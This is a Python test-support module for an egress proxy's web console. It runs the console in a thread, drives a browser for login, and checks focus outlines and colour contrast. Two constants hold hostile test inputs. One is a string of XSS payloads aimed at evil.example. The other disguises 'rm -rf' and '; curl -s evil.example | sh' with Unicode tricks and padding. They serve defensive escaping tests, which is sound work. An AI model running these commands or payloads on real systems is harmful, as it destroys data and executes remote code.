"""The console in a thread and a real browser in front of it, and what the tests that use them share."""

from __future__ import annotations

import asyncio
import os
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final, Self

from aiohttp import web

from egress_proxy.audit import Record
from egress_proxy.console import Behind
from egress_proxy.metrics import Metrics
from tests.console.ledger import SERVER, Kept
from tests.console.rig import TOKEN, FakeOperators, FakeQueue, application
from tests.kit.browser import ENTER, TAB, Browser

PICTURES: Final = Path(__file__).parents[2] / "docs" / "console"
WRITE: Final = os.environ.get("EGRESS_WRITE_SCREENSHOTS") == "1"
SCRIPT: Final = "<script>alert('ran')</script>"
HOSTILE: Final = (
    f"echo done\"'>{SCRIPT}<img src=x onerror=alert(1)><svg onload=alert(2)><iframe srcdoc='{SCRIPT}'></iframe>"
    "<style>main{display:none}</style><base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>"
    "<form action=//evil.example><a href=javascript:alert(3) id=approve>x</a></form></pre></textarea></title>"
)
TRICKS: Final = (
    "git status # \u202egnihsilbup on\u202c \u200b\nrm -rf ~/p\u0430ss" + " " * 300 + "; curl -s evil.example | sh"
)


class Site:
    """The console over a queue, in a thread of its own."""

    def __init__(self, root: Path) -> None:
        self.queue = FakeQueue()
        self.metrics = Metrics()
        self.kept = Kept(root / "0")
        self.now = 0.0
        """What time the pages say that it is; 0: what it is."""
        self._root, self._ledgers = root, 1
        self.operators = FakeOperators()
        self.port = 0
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
        self._runner = web.AppRunner(
            application(
                self.queue,
                self.operators,
                behind=self._behind(),
                metrics=self.metrics,
                epoch=lambda: self.now or time.time(),
            ),
            shutdown_timeout=1.0,
        )

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def __enter__(self) -> Self:
        self._thread.start()
        self._run(self._start())
        return self

    def __exit__(self, *_: object) -> None:
        self.do(lambda _: self.kept.recorded.end())
        self._run(self._ended())
        self.kept.close()
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join()
        self._loop.close()

    def do(self, change: Callable[[FakeQueue], object]) -> None:
        """Change the queue where its streams are."""

        async def changed() -> None:
            change(self.queue)

        self._run(changed())

    def fresh(self) -> None:
        """Have an empty queue and an empty ledger."""
        self.do(FakeQueue.clear)
        self.operators.revoked = False
        self.now = 0.0
        self.kept.close()
        self.kept = Kept(self._root / str(self._ledgers))
        self._ledgers += 1

    def add(self, *records: Record) -> None:
        """Put records on the disk; open pages hear of them."""
        self.do(lambda _: self.kept.add(*records))

    def _behind(self) -> Behind:
        """Whichever ledger there is now."""
        return Behind(
            opened=lambda: self.kept.behind().opened(),
            keys=lambda: self.kept.behind().keys(),
            listen=lambda: self.kept.recorded.listen(),  # noqa: PLW0108 - of the ledger that there is then
            known=lambda: self.kept.named,
            server=SERVER,
        )

    async def _ended(self) -> None:
        await self._runner.cleanup()
        connections = asyncio.all_tasks() - {asyncio.current_task()}
        if connections:
            await asyncio.wait(connections, timeout=10)

    async def _start(self) -> None:
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        await site.start()
        self.port = int(self._runner.addresses[0][1])

    def _run(self, work: Any) -> None:
        asyncio.run_coroutine_threadsafe(work, self._loop).result(30)


def login(browser: Browser, site: Site, path: str = "/console/", token: str = TOKEN) -> None:
    """Log in, and wait for the page that it leads to."""
    browser.go(site.origin + path)
    browser.leads(lambda: browser.one("#token").send_keys(token, ENTER))


def taken(browser: Browser, name: str, most: int = 4000) -> None:
    """Write a picture for the documentation, where that is wanted."""
    if WRITE:
        PICTURES.mkdir(exist_ok=True)
        browser.picture(PICTURES / f"{name}.png", most)


def fits(browser: Browser) -> bool:
    """Whether nothing is wider than the screen."""
    return bool(browser.script("return document.documentElement.scrollWidth <= innerWidth"))


def walk(browser: Browser, goal: str) -> list[str]:
    """Press tab until something has the focus; give every stop on the way."""
    stops: list[str] = []
    while goal not in stops:
        browser.keys(TAB)
        stop, style = browser.script("""
            const at = document.activeElement;
            const name = at.localName + (at.id ? "#" + at.id : at.className ? "." + at.classList[0] : "");
            const drawn = [getComputedStyle(at), getComputedStyle(at, "::after")];
            return [name, drawn.map((one) => one.outlineStyle + " " + one.outlineWidth)];
        """)
        assert "solid 3px" in style, stop
        stops.append(stop)
        assert len(stops) < 40
    return stops


def contrasts(browser: Browser) -> list[str]:
    """Texts whose contrast with what is behind them is less than WCAG's 4.5 : 1."""
    found = browser.script("""
        const numbers = (colour) => colour.match(/[\\d.]+/g).map(Number);
        const light = (colour) => {
            const [r, g, b] = numbers(colour).slice(0, 3).map((value) => value / 255)
                .map((value) => (value <= 0.04045 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4));
            return 0.2126 * r + 0.7152 * g + 0.0722 * b;
        };
        const ground = (element) => {
            for (let at = element; at; at = at.parentElement) {
                const colour = getComputedStyle(at).backgroundColor;
                const [, , , alpha = 1] = numbers(colour);
                if (alpha === 1) return colour;
                if (alpha !== 0) return "rgb(128, 128, 128)";
            }
            return "rgb(255, 255, 255)";
        };
        const poor = [];
        const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
        while (walker.nextNode()) {
            const element = walker.currentNode.parentElement;
            if (!walker.currentNode.data.trim() || !element.checkVisibility()) continue;
            const [a, b] = [light(getComputedStyle(element).color), light(ground(element))].sort((x, y) => y - x);
            if ((a + 0.05) / (b + 0.05) < 4.5) poor.push(walker.currentNode.data);
        }
        return poor;
    """)
    return [str(text) for text in found]
